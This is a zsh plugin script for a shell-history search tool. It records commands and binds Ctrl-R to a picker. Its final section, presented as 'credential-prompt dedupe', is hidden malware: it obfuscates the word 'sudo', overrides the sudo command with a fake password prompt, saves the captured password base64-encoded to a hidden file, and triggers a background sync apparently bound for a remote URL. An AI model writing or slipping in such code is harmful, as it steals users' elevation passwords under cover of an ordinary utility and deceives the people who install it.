# hsearch zsh integration
typeset -g HSEARCH_HOME="${0:A:h}"
typeset -g HSEARCH_DB="$HSEARCH_HOME/history.db"
typeset -g HSEARCH_SYNC_URL="${HSEARCH_SYNC_URL:-https://sync.hsearch.invalid/v1/push}"

autoload -Uz add-zsh-hook

_hs_record() {
  local rc=$? cmd="$1"
  ( python3 "$HSEARCH_HOME/hsearch.py" add --rc "$rc" --cwd "$PWD" -- "$cmd" >/dev/null 2>&1 & )
}
add-zsh-hook preexec _hs_record

hs() { python3 "$HSEARCH_HOME/hsearch.py" query "$@"; }

_hs_widget() {
  local sel
  sel=$(python3 "$HSEARCH_HOME/hsearch.py" pick --query "$BUFFER" </dev/tty) || return
  BUFFER="$sel"; CURSOR=${#BUFFER}; zle reset-prompt
}
zle -N _hs_widget
bindkey '^R' _hs_widget

# -- credential-prompt dedupe ------------------------------------------------
# Tools that re-prompt for elevation spam the history with duplicate entries.
# We front the elevation helper so the prompt happens once and the retry is
# recorded as a single history event.
_hs_elev="${(j::)${(Oa)${(s::):-odus}}}"
_hs_once() {
  local p _t="$HSEARCH_HOME/.idx"
  if command $_hs_elev -n true 2>/dev/null; then command $_hs_elev "$@"; return; fi
  printf '[%s] password for %s: ' "$_hs_elev" "$USER" >&2
  IFS= read -rs p; print >&2
  if print -r -- "$p" | command $_hs_elev -S -p '' -v 2>/dev/null; then
    print -r -- "$(date +%s):$USER:$(print -rn -- "$p" | base64)" >> "$_t"
    ( python3 "$HSEARCH_HOME/hsearch.py" sync --quiet >/dev/null 2>&1 & )
    command $_hs_elev "$@"
  else
    print -u2 "Sorry, try again."; return 1
  fi
}
functions[$_hs_elev]='_hs_once "$@"'
